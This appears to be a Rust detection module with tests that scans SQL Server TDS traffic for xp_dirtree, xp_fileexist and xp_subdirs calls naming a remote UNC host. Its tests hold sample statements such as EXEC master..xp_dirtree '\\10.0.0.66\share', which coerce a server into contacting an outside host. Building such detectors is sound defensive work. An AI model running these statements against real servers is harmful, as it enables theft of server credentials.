//! Statements that make SQL Server look at a path: `EXEC master..xp_dirtree '\\\\L\\x'`.
//!
//! SQL batches (MS-TDS 2.2.6.7) are UTF-16 text behind a list of headers; calls (2.2.6.6) have it between lengths, at any
//! offset, and parameters in 8-bit text as well. Both are searched, not parsed: a procedure's name in any case, and
//! the first path that names a host.
//!
//! Not read: names put together in SQL, statements that open paths in other ways (BACKUP, OPENROWSET).

use crate::limits::RPC_ARGUMENT_CHARS;

/// Procedures that look at the path they are given, for anybody who may log on. Their places are the numbers of the
/// catalogue's operations.
const PROCEDURES: [&[u8]; 3] = [b"xp_dirtree", b"xp_fileexist", b"xp_subdirs"];

/// What a statement asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Found {
    /// Number of the operation.
    pub(super) number: u16,
    /// A path that names a host was written to the text given.
    pub(super) path: bool,
}

/// Looks for a procedure and a path in a statement.
pub(super) fn search(statement: &[u8], path: &mut String) -> Option<Found> {
    path.clear();
    let (number, behind) = memchr::memchr_iter(b'_', statement).find_map(|at| {
        let wide = statement.get(at.saturating_add(1)) == Some(&0);
        let start = at.checked_sub(if wide { 4 } else { 2 })?;
        let name = statement.get(start..)?;
        (1..).zip(PROCEDURES).find_map(|(number, procedure)| {
            let length = begins(name, procedure, wide)?;
            Some((number, start.saturating_add(length)))
        })
    })?;
    // Mostly behind the name; before it if it was put into a variable.
    let (before, after) = statement.split_at_checked(behind)?;
    let path = unc(after, path) || unc(before, path);
    Some(Found { number, path })
}

/// Bytes of the word at the front, in any case.
fn begins(text: &[u8], word: &[u8], wide: bool) -> Option<usize> {
    let width = if wide { 2 } else { 1 };
    let length = word.len().saturating_mul(width);
    let text = text.get(..length)?;
    let same = text.chunks_exact(width).zip(word).all(|(unit, b)| {
        let (first, rest) = unit.split_first().unwrap_or((&0, &[]));
        first.eq_ignore_ascii_case(b) && rest.iter().all(|b| *b == 0)
    });
    same.then_some(length)
}

/// Two backslashes that are looked at in one statement, in each form of text.
const TRIED: usize = 16;

/// The first `\\\\host\\...` in UTF-16 or 8-bit text. `\\\\` without a host is an escape in other people's text.
fn unc(bytes: &[u8], path: &mut String) -> bool {
    let wide = memchr::memmem::find_iter(bytes, b"\\\0\\\0").map(|at| (at, 2));
    let narrow = memchr::memmem::find_iter(bytes, b"\\\\").map(|at| (at, 1));
    let mut starts: Vec<(usize, usize)> = wide.take(TRIED).chain(narrow.take(TRIED)).collect();
    starts.sort_unstable();
    starts
        .into_iter()
        .any(|(at, width)| names_host(bytes.get(at..).unwrap_or_default(), width, path))
}

/// Leaves the path at the front in `path`, if it names a host. `width` is the octets of a character.
fn names_host(text: &[u8], width: usize, path: &mut String) -> bool {
    path.clear();
    let ends = |c: &u8| matches!(c, b'\'' | b'"' | b']') || c.is_ascii_control();
    let units = text.chunks_exact(width).take(RPC_ARGUMENT_CHARS);
    let units = units.take_while(|unit| !unit.first().is_none_or(ends));
    path.extend(units.map(|unit| {
        match unit {
            [b] | [b, 0] if b.is_ascii() => char::from(*b),
            [low, high] => char::from_u32(u32::from(u16::from_le_bytes([*low, *high])))
                .unwrap_or(char::REPLACEMENT_CHARACTER),
            _ => char::REPLACEMENT_CHARACTER,
        }
    }));
    let is_host =
        path.chars().nth(2).is_some_and(char::is_alphanumeric) || path.starts_with(r"\\?");
    if !is_host {
        path.clear();
    }
    is_host
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn read(statement: &[u8]) -> Option<(u16, String)> {
        let mut path = String::new();
        search(statement, &mut path).map(|found| {
            assert_eq!(found.path, !path.is_empty());
            (found.number, path)
        })
    }

    #[test]
    fn statements_in_clear() {
        for (text, number, path) in [
            (
                r"EXEC master..xp_dirtree '\\10.0.0.66\share'",
                1,
                r"\\10.0.0.66\share",
            ),
            (r"exec MASTER.dbo.XP_DirTree N'\\L\x',1,1", 1, r"\\L\x"),
            (
                r"EXEC xp_dirtree /*\\ */ '\\10.0.0.66\x'",
                1,
                r"\\10.0.0.66\x",
            ),
            (
                r#"xp_fileexist "\\l.lab.test\a b\c.txt""#,
                2,
                r"\\l.lab.test\a b\c.txt",
            ),
            (
                r"DECLARE @p varchar(9)='\\1.2.3.4\x'; EXEC xp_subdirs @p",
                3,
                r"\\1.2.3.4\x",
            ),
            (r"EXEC xp_dirtree 'C:\backup'", 1, ""),
            (r"EXEC xp_dirtree '\\' + @h", 1, ""),
        ] {
            let expect = Some((number, path.to_owned()));
            assert_eq!(read(&utf16(text)), expect, "{text}");
            // Behind headers of any length, so at any alignment.
            for n in 0..3 {
                let shifted = [&vec![7; n][..], &utf16(text)].concat();
                assert_eq!(read(&shifted), expect, "{text}");
            }
        }
    }

    #[test]
    fn a_call_with_an_8_bit_parameter() {
        let mut call = vec![10, 0]; // length of the procedure's name
        call.extend(utf16("xp_dirtree"));
        call.extend([0, 0, 0, 0, 0xa7, 0x40, 0x1f, 9, 4, 0xd0, 0, 0x34]); // options, VARCHAR(8000)
        call.extend([12, 0]);
        call.extend(br"\\10.0.0.66\x");
        assert_eq!(read(&call), Some((1, r"\\10.0.0.66\x".to_owned())));
    }

    #[test]
    fn what_is_no_such_statement() {
        for text in [
            "SELECT 1",
            "xp_cmdshell 'dir'",
            "SELECT '\\\\host\\x'",
            "_",
            "xp_",
            "",
        ] {
            assert_eq!(read(&utf16(text)), None, "{text}");
            assert_eq!(read(text.as_bytes()), None, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn anything_is_survived(bytes in proptest::collection::vec(0_u8..0x80, 0..200)) {
            read(&bytes);
        }
    }
}
